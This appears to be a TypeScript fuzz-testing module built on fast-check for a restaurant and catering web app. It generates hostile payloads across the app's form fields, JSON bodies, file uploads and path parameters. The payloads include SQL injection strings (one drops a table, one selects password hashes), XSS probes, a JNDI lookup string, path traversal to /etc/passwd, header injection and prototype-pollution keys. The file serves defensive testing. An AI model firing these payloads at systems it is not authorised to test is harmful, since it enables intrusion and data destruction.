import fc from "fast-check";

/** Strings attackers and broken clients send: injections, traversal, encodings, edge numbers. */
export const hostileStrings = [
  "' OR '1'='1",
  "'; DROP TABLE reservations; --",
  "1; select pg_sleep(5)--",
  '" UNION SELECT password_hash FROM users --',
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "javascript:alert(1)",
  "{{7*7}}<%= 7*7 %>",
  // A template-literal injection, spelled so that no linter mistakes it for one.
  "\u0024{7*7}\u0024{jndi:ldap://x/a}",
  "../../../../etc/passwd",
  "..%2f..%2f..%2fetc%2fpasswd",
  "%00",
  "\u0000",
  "a\u0000b",
  "\uD800",
  "\uFEFF\u202E\u200B",
  "𝕰𝖉𝖊𝖓 🌿🍛 ಬೆಂಗಳೂರು नमस्ते",
  "Ａｄｍｉｎ",
  "\r\nSet-Cookie: x=1",
  "admin@demo.test",
  "__proto__",
  "constructor",
  "[object Object]",
  "NaN",
  "Infinity",
  "-1",
  "-0",
  "1e309",
  "9".repeat(400),
  "0x7fffffff",
  "2024-02-30",
  "0000-00-00",
  "99999-12-31",
  "25:61",
  "24:00",
  "true",
  "null",
  "undefined",
  "",
  " ",
  "\t\n",
  "00000000-0000-0000-0000-000000000000",
  "ffffffff-ffff-ffff-ffff-ffffffffffff",
];

const hugeString = fc
  .tuple(fc.constantFrom("A", "ಅ", "🌿", "<", "'", "\u0000"), fc.integer({ min: 5_000, max: 200_000 }))
  .map(([c, n]) => c.repeat(n));

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...hostileStrings) },
  { weight: 3, arbitrary: fc.string({ unit: "grapheme", maxLength: 80 }) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 80 }) },
  { weight: 1, arbitrary: fc.uuid().map(String) },
  { weight: 1, arbitrary: fc.double().map(String) },
  { weight: 1, arbitrary: hugeString },
);

/** Field names of the product's forms (plus ones that reach prototypes), so payloads go deep. */
export const fieldNames = [
  // Issue 18: tables, order, dish facts, guests' data
  "phone",
  "retentionDays",
  "direction",
  "table",
  "spiceLevel",
  "allergens",
  "servedFrom",
  "servedUntil",
  "labelsGiven",
  "eventName",
  "eventDate",
  "eventStartTime",
  "eventEndTime",
  "clientName",
  "clientEmail",
  "clientPhone",
  "guestCount",
  "mealType",
  "isFOC",
  "perPersonAmount",
  "gstType",
  "gstValue",
  "advanceAmountReceived",
  "withAlcohol",
  "alcoholMRP",
  "alcoholPercentageCharges",
  "status",
  "notes",
  "version",
  "email",
  "password",
  "confirmPassword",
  "role",
  "redirectTo",
  "customerName",
  "phoneNumber",
  "numGuests",
  "intent",
  "id",
  "requestId",
  "decision",
  "name",
  "category",
  "description",
  "servedWith",
  "options",
  "price",
  "isVeg",
  "isOutOfStock",
  "key",
  "label",
  "mainCategory",
  "address",
  "phone",
  "openingTime",
  "cuisine",
  "itemId",
  "photo",
  "subject",
  "message",
  "altcha",
  "website",
  "rows",
  "tab",
  "start",
  "end",
  "date",
  "exclude",
];
export const pollutingKeys = [
  "__proto__",
  "constructor",
  "prototype",
  "__proto__[isAdmin]",
  "constructor[prototype][role]",
  "__proto__.role",
];
/** Real intents and decisions, so the fuzz reaches the code behind each branch. */
export const intents = [
  "create-item",
  "update-item",
  "delete-item",
  "set-stock",
  "create-category",
  "update-category",
  "delete-category",
  "save-info",
  "delete",
  "soft-delete",
  "request-delete",
  "restore",
  "approve",
  "reject",
  "handled",
  "reopen",
  "add-table",
  "rename-table",
  "remove-table",
  "move-item",
  "move-category",
  "save-retention",
  "find",
  "export",
];

const key = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...fieldNames) },
  { weight: 2, arbitrary: fc.constantFrom(...pollutingKeys) },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 20 }) },
);
const entry = fc.oneof(
  { weight: 1, arbitrary: fc.tuple(fc.constant("intent"), fc.constantFrom(...intents)) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom("intent", "decision"), fc.constantFrom(...intents)) },
  { weight: 8, arbitrary: fc.tuple(key, hostileString) },
);
export const fields = fc.array(entry, { maxLength: 24 });

/** JSON of any shape: wrong types, nesting, prototype keys. */
const json = fc.oneof(
  { weight: 3, arbitrary: fc.jsonValue() },
  {
    weight: 3,
    arbitrary: fc.dictionary(key, fc.oneof(hostileString, fc.jsonValue()), { maxKeys: 12 }),
  },
  {
    weight: 2,
    arbitrary: fc
      .array(fc.dictionary(key, fc.oneof(hostileString, fc.integer(), fc.boolean()), { maxKeys: 10 }), {
        maxLength: 30,
      })
      .map((rows) => ({ rows })),
  },
);

export type Payload =
  | {
      kind: "urlencoded" | "multipart";
      fields: [string, string][];
      file?: { name: string; bytes: Uint8Array };
    }
  | { kind: "json"; value: unknown }
  | { kind: "raw"; contentType: string; body: string };

export const payload: fc.Arbitrary<Payload> = fc.oneof(
  { weight: 5, arbitrary: fields.map((f) => ({ kind: "urlencoded" as const, fields: f })) },
  {
    weight: 3,
    arbitrary: fc
      .record({
        fields,
        file: fc.option(
          fc.record({
            name: fc.oneof(fc.constantFrom("../../x.png", "a.svg", "x.php.jpg", "\u0000.png"), fc.string()),
            bytes: fc.uint8Array({ maxLength: 4096 }),
          }),
          { nil: undefined },
        ),
      })
      .map((r) => ({ kind: "multipart" as const, ...r })),
  },
  { weight: 3, arbitrary: json.map((value) => ({ kind: "json" as const, value })) },
  {
    weight: 2,
    arbitrary: fc
      .record({
        contentType: fc.constantFrom(
          "multipart/form-data",
          "multipart/form-data; boundary=x",
          "application/x-www-form-urlencoded",
          "application/json",
          "text/plain",
          "application/xml",
          "application/octet-stream",
        ),
        body: fc.oneof(
          fc.constantFrom(
            '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n',
            '{"rows":[',
            "%%%",
            "a=%E0%A4%A",
          ),
          fc.string({ unit: "binary", maxLength: 2000 }),
          // Over the 1 MB body limit.
          fc.constant("a=".padEnd(1_200_000, "x")),
        ),
      })
      .map((r) => ({ kind: "raw" as const, ...r })),
  },
);

/** A path parameter: real-looking ids that exist nowhere, and hostile segments. */
export const param = fc.oneof(
  fc.uuid().map(String),
  hostileString.filter((s) => s.length < 2000),
);
